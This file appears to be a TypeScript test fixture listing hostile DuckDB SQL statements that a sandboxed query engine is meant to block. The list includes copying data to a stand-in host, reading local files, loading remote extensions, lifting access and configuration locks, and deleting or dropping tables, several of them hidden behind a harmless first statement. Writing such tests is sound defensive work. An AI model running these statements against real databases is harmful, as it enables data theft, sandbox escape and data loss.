/**
 * What a query must not be able to do. Statements that cannot be prepared stand behind a harmless one, so that they
 * reach the database at all. The host does not exist; no request may leave for it.
 */
export const HOSTILE: readonly { what: string; sql: string }[] = [
  { what: 'read a file from the network', sql: "SELECT * FROM read_csv('https://hostile.invalid/a.csv')" },
  { what: 'read a file of its own origin', sql: "SELECT * FROM read_csv('/data/database.json')" },
  { what: 'read a file by its bare name', sql: "SELECT * FROM 'https://hostile.invalid/a.csv'" },
  { what: 'list files', sql: "SELECT * FROM glob('*')" },
  {
    what: 'read a format that needs an extension',
    sql: "SELECT * FROM read_parquet('https://hostile.invalid/a')",
  },
  { what: 'write a file', sql: "COPY (SELECT 1) TO 'stolen.csv'" },
  { what: 'send a file', sql: "COPY (SELECT 1) TO 'https://hostile.invalid/stolen.csv'" },
  { what: 'attach a database from the network', sql: "SELECT 1; ATTACH 'https://hostile.invalid/a.duckdb'" },
  { what: 'attach a database file', sql: "SELECT 1; ATTACH 'other.duckdb'" },
  { what: 'load an extension', sql: 'SELECT 1; LOAD httpfs' },
  { what: 'load an extension from the network', sql: "SELECT 1; LOAD 'https://hostile.invalid/a.wasm'" },
  { what: 'open the door again', sql: 'SELECT 1; SET enable_external_access = true' },
  { what: 'allow other folders', sql: "SELECT 1; SET allowed_directories = ['/']" },
  {
    what: 'look for extensions elsewhere',
    sql: "SELECT 1; SET custom_extension_repository = 'https://hostile.invalid'",
  },
  { what: 'unlock the configuration', sql: 'SELECT 1; SET lock_configuration = false' },
  { what: 'change the data', sql: 'SELECT 1; DELETE FROM observation' },
  { what: 'drop a table', sql: 'SELECT 1; DROP TABLE observation' },
];
